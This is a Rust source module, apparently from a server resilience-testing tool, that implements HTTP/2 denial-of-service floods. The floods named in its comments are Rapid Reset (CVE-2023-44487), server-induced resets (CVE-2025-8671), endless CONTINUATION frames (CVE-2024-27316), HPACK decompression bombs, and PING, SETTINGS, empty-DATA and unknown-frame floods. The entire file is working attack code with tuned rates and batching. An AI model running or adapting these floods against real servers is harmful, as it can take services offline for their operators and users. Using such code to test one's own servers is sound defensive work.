//! Floods over HTTP/2: much work for little.

use std::cell::Cell;

use super::{
    field::{Tally, Target, Watch},
    frames::{
        CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY,
        RST_STREAM, SETTINGS, WINDOW_UPDATE, block, frame, request, setting,
    },
};

/// `SETTINGS_INITIAL_WINDOW_SIZE` and others may be said again and again.
const MAX_FRAME_SIZE: u16 = 5;
/// Code of a reset.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// What is put together into one write, at most.
const BATCH: u64 = 2_000;

/// One connection after the other, each until outgrow ends it. `next` makes so many of what is counted;
/// `is_deaf`: the attacker reads nothing.
fn flood(
    target: &Target,
    watch: &Watch<'_>,
    per_second: f64,
    is_deaf: bool,
    mut begin: impl FnMut(&mut Connection) -> Vec<u8>,
    mut next: impl FnMut(&mut Connection, u64) -> Vec<u8>,
) -> Tally {
    let mut tally = Tally::default();
    let mut current: Option<Connection> = None;
    while let Some(due) = watch.due(per_second, tally.sent) {
        let Some(connection) = &mut current else {
            current = Connection::open(target.address("public"), &[]);
            if let Some(connection) = &mut current {
                tally.connections += 1;
                let first = begin(connection);
                connection.line.say(&first);
            }
            continue;
        };
        if connection.line.is_taken() {
            let count = due.min(BATCH);
            let bytes = next(connection, count);
            connection.line.say(&bytes);
            tally.sent += count;
        } else {
            connection.line.say(&[]);
            std::thread::sleep(std::time::Duration::from_millis(1));
        }
        if !is_deaf {
            connection.hear();
        }
        if !connection.line.is_open() {
            connection.hear();
            connection.count(&mut tally);
            current = None;
        }
    }
    if let Some(mut connection) = current {
        connection.hear();
        connection.count(&mut tally);
    }
    tally
}

fn nothing(_: &mut Connection) -> Vec<u8> {
    Vec::new()
}

fn many(count: u64, one: &[u8]) -> Vec<u8> {
    one.repeat(count as usize)
}

/// CVE-2023-44487: requests that are reset as soon as they are made.
pub(super) fn rapid_resets(target: &Target, watch: &Watch<'_>) -> Tally {
    flood(
        target,
        watch,
        2_000.0,
        false,
        nothing,
        |connection, count| {
            let one = |_| {
                let stream = connection.next_stream();
                [
                    request(stream, false, "/attacked"),
                    frame(RST_STREAM, 0, stream, &CANCEL),
                ]
                .concat()
            };
            (0..count).flat_map(one).collect()
        },
    )
}

/// CVE-2025-8671: requests that the server is made to reset, on each connection in another way.
pub(super) fn made_resets(target: &Target, watch: &Watch<'_>) -> Tally {
    let way = Cell::new(0);
    let begin = |_: &mut Connection| {
        way.set((way.get() + 1) % 3);
        Vec::new()
    };
    flood(target, watch, 2_000.0, false, begin, |connection, count| {
        let one = |_| {
            let stream = connection.next_stream();
            let wrong = match way.get() {
                // A window beyond what there is.
                0 => frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]),
                // A second head, which is no trailers.
                1 => request(stream, true, "/attacked"),
                // A stream that depends on itself.
                _ => frame(
                    PRIORITY,
                    0,
                    stream,
                    &[&stream.to_be_bytes()[..], &[0]].concat(),
                ),
            };
            [request(stream, true, "/attacked"), wrong].concat()
        };
        (0..count).flat_map(one).collect()
    })
}

/// Heads that never end, of large pieces and of empty ones (CVE-2024-27316).
pub(super) fn continuations(target: &Target, watch: &Watch<'_>) -> Tally {
    let field = [&[0x10, 1, b'x', 100][..], &[b'y'; 100]].concat();
    let large = frame(CONTINUATION, 0, 1, &field.repeat(10));
    let empty = frame(CONTINUATION, 0, 1, &[]);
    let mut is_large = false;
    let begin = |connection: &mut Connection| {
        let stream = connection.next_stream();
        frame(HEADERS, END_STREAM, stream, &block(false, "/"))
    };
    flood(target, watch, 2_000.0, false, begin, |connection, count| {
        if connection.line.bytes_out < 200 {
            is_large = !is_large;
        }
        many(count, if is_large { &large } else { &empty })
    })
}

/// HPACK: a large field once, and then a byte for each time that it is meant again.
pub(super) fn hpack_bombs(target: &Target, watch: &Watch<'_>) -> Tally {
    let begin = |connection: &mut Connection| {
        let stream = connection.next_stream();
        // Into the table, of which it takes nearly all (4,096 bytes with 32 for the entry).
        let mut fields = block(false, "/fixed");
        fields.extend([0x40, 1, b'x', 0x7f, 0x81, 0x1e]);
        fields.extend([b'y'; 4_000 - 32]);
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields)
    };
    flood(target, watch, 100.0, false, begin, |connection, count| {
        let one = |_| {
            let stream = connection.next_stream();
            let bomb = [block(false, "/fixed"), vec![0xbe; 16_000]].concat();
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb)
        };
        (0..count).flat_map(one).collect()
    })
}

/// CVE-2019-9512.
pub(super) fn pings(target: &Target, watch: &Watch<'_>) -> Tally {
    let ping = frame(PING, 0, 0, b"outgrow!");
    flood(target, watch, 100_000.0, false, nothing, |_, count| {
        many(count, &ping)
    })
}

/// The same of who takes no answer.
pub(super) fn pings_unread(target: &Target, watch: &Watch<'_>) -> Tally {
    let ping = frame(PING, 0, 0, b"outgrow!");
    flood(target, watch, 100_000.0, true, nothing, |_, count| {
        many(count, &ping)
    })
}

/// CVE-2019-9515.
pub(super) fn settings(target: &Target, watch: &Watch<'_>) -> Tally {
    let settings = frame(SETTINGS, 0, 0, &setting(MAX_FRAME_SIZE, 16_384));
    flood(target, watch, 50_000.0, false, nothing, |_, count| {
        many(count, &settings)
    })
}

/// CVE-2019-9518: DATA without data.
pub(super) fn empty_data(target: &Target, watch: &Watch<'_>) -> Tally {
    let mut stream = 0;
    let begin = |connection: &mut Connection| {
        stream = connection.next_stream();
        request(stream, true, "/attacked")
    };
    let empty = frame(DATA, 0, 1, &[]);
    flood(target, watch, 100_000.0, false, begin, |_, count| {
        many(count, &empty)
    })
}

/// Frames without a meaning: priorities of streams that nobody opened, and kinds that nobody knows.
pub(super) fn meaningless(target: &Target, watch: &Watch<'_>) -> Tally {
    let priority = frame(PRIORITY, 0, 99, &[0, 0, 0, 1, 9]);
    let unknown = frame(0x55, 0, 0, b"");
    let both = [priority, unknown].concat();
    flood(target, watch, 100_000.0, false, nothing, |_, count| {
        many(count.div_ceil(2), &both)
    })
}
